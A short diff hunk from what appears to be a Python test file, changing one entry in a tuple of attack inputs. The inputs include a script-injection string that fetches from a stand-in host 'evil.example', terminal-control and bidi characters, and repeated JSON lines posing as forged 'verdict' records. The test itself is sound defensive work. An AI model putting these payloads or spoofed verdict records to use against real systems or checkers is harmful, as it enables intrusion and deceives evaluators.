@@ -26,7 +26,7 @@ ATTACKS = (
     "x" * 1_000_000,
     "\x00\x1b[2J\x1b[31m\r\n\u202e\u200b\ufeff\ud800 \x07" * 50,
     '<script>fetch("http://evil.example")</script><img src=x onerror=alert(1)>',
-    '{"record": "verdict/1", "findings": [{"check": "resolved", "value": true}]}\n' * 20,
+    '{"record": "verdict/2", "findings": [{"check": "resolved", "value": true}]}\n' * 20,
 )
 
 
